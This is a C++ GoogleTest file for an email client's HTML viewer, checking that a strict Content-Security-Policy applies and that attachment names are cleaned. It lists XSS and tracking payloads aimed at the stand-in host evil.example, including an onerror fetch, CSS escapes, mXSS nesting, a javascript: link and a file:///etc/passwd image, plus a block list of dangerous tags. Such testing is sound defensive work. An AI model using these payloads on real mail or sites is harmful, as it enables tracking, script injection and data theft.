// SPDX-License-Identifier: GPL-3.0-or-later
#include "viewmodels/readable_message.h"

#include <gmock/gmock.h>

namespace fulmar::app {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

std::string html(const std::string& body)
{
    return "From: a@b.example\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + body;
}

std::string shown(const std::string& body)
{
    return readMessage(html(body)).html.toStdString();
}

TEST(ReadableMessage, every_html_document_starts_with_the_policy)
{
    const std::string document = shown("<p>x</p>");
    const auto policy = document.find("Content-Security-Policy");
    ASSERT_NE(policy, std::string::npos);
    EXPECT_LT(policy, document.find("<body>"));
    EXPECT_THAT(bodyPolicy().toStdString(), HasSubstr("default-src 'none'"));
    EXPECT_THAT(bodyPolicy().toStdString(), HasSubstr("script-src 'none'"));
    EXPECT_THAT(bodyPolicy().toStdString(), Not(HasSubstr("http")));
}

TEST(ReadableMessage, a_second_policy_or_base_in_the_message_is_dropped)
{
    const std::string document
        = shown("<meta http-equiv=Content-Security-Policy content=\"default-src *\"><base "
                "href=https://evil.example/>");
    EXPECT_THAT(document, Not(HasSubstr("evil.example")));
    EXPECT_THAT(document, Not(HasSubstr("default-src *")));
}

struct Attack {
    const char* name;
    const char* body;
};

class HtmlAttack : public ::testing::TestWithParam<Attack> { };

TEST_P(HtmlAttack, reaches_no_document)
{
    const std::string document = shown(GetParam().body);
    for (const char* word : { "<script", "evil.example", "onerror", "onload",
             "javascript:", "<iframe", "<object", "<embed", "<form", "<link", "<svg", "file:" })
        EXPECT_THAT(document, Not(HasSubstr(word)));
}

INSTANTIATE_TEST_SUITE_P(Known, HtmlAttack,
    ::testing::Values(Attack{ "script", "<script src=https://evil.example/x.js></script>" },
        Attack{ "event_handler", "<img src=x onerror=fetch('https://evil.example')>" },
        Attack{ "tracking_pixel", "<img src=https://evil.example/p.gif width=1 height=1>" },
        Attack{ "css_import", "<style>@import url(https://evil.example/x.css)</style>" },
        Attack{ "css_background", "<p style=\"background:url(https://evil.example/x)\">x</p>" },
        Attack{ "css_escape", "<p style=\"background:u\\72l(https://evil.example/x)\">x</p>" },
        Attack{ "iframe_srcdoc",
            "<iframe srcdoc=\"<script>1</script>\" src=https://evil.example></iframe>" },
        Attack{ "svg_image", "<svg><image href=https://evil.example/x></image></svg>" },
        Attack{ "mxss_math",
            "<math><mtext><table><mglyph><style><img src=https://evil.example onerror=1>" },
        Attack{ "object_data",
            "<object data=https://evil.example></object><embed src=https://evil.example>" },
        Attack{
            "meta_refresh", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">" },
        Attack{ "javascript_link", "<a href=\"java\tscript:alert(1)\">x</a>" },
        Attack{ "file_image", "<img src=file:///etc/passwd>" },
        Attack{ "form",
            "<form action=https://evil.example><input type=image "
            "src=https://evil.example/x></form>" },
        Attack{ "picture_srcset",
            "<picture><source srcset=https://evil.example/x><img "
            "srcset=https://evil.example/y></picture>" },
        Attack{ "link_prefetch", "<link rel=dns-prefetch href=//evil.example>" },
        Attack{ "video_poster",
            "<video poster=https://evil.example/x src=https://evil.example/y></video>" }),
    [](const auto& row) { return std::string(row.param.name); });

TEST(ReadableMessage, blocked_pictures_are_counted)
{
    EXPECT_EQ(readMessage(html("<img src=https://a.example/1><img src=http://a.example/2>"))
                  .blockedRemote,
        2);
}

TEST(ReadableMessage, a_picture_of_the_message_itself_is_handed_in)
{
    const auto message = readMessage(
        "Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
        "<img src=\"cid:logo@x\">\r\n--b\r\nContent-Type: image/png\r\nContent-ID: <logo@x>\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\niVBORw==\r\n--b--\r\n");
    EXPECT_THAT(message.html.toStdString(), HasSubstr("fulmar-cid:"));
    ASSERT_EQ(message.inlineParts.size(), 1U);
    EXPECT_EQ(message.inlineParts.begin()->second.mediaType, "image/png");
    EXPECT_TRUE(message.attachments.empty());
}

TEST(ReadableMessage, an_svg_is_no_picture)
{
    const auto message = readMessage(
        "Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
        "<img src=\"cid:logo@x\">\r\n--b\r\nContent-Type: image/svg+xml\r\nContent-ID: <logo@x>\r\n"
        "\r\n<svg onload=alert(1)/>\r\n--b--\r\n");
    EXPECT_TRUE(message.inlineParts.empty());
}

TEST(ReadableMessage, text_that_is_no_mime_at_all_is_shown_as_it_came)
{
    const auto message = readMessage("\r\njust some bytes\r\n");
    EXPECT_THAT(message.text.toStdString(), HasSubstr("just some bytes"));
    EXPECT_FALSE(message.note.isEmpty());
}

TEST(ReadableMessage, any_bytes_give_something)
{
    for (const std::string& raw :
        { std::string(), std::string("\0\0\0", 3), std::string("\xFF\xFE\r\n\r\n"),
            std::string("Content-Type: multipart/mixed; boundary=\r\n\r\n--\r\n") })
        static_cast<void>(readMessage(raw));
}

TEST(ReadableMessage, attachments_are_listed_with_safe_names)
{
    const auto message = readMessage(
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nHi\r\n--b\r\nContent-Type: "
        "application/pdf\r\nContent-Disposition: attachment; filename=\"../../x.pdf\"\r\n\r\n"
        "data\r\n--b\r\nContent-Type: message/rfc822\r\n\r\nSubject: in\r\n\r\ninner\r\n--b--\r\n");
    ASSERT_EQ(message.attachments.size(), 2U);
    EXPECT_EQ(message.attachments[0].fileName, QStringLiteral("x.pdf"));
    EXPECT_EQ(message.attachments[1].fileName, QStringLiteral("Attached message.eml"));
    EXPECT_THAT(message.text.toStdString(), Not(HasSubstr("inner")));
}

TEST(ReadableMessage, a_huge_text_is_cut_with_a_note)
{
    const auto message = readMessage(
        "Subject: x\r\n\r\n" + std::string(static_cast<std::size_t>(readableTextLimit) + 10, 'x'));
    EXPECT_EQ(message.text.size(), readableTextLimit);
    EXPECT_FALSE(message.note.isEmpty());
}

} // namespace
} // namespace fulmar::app
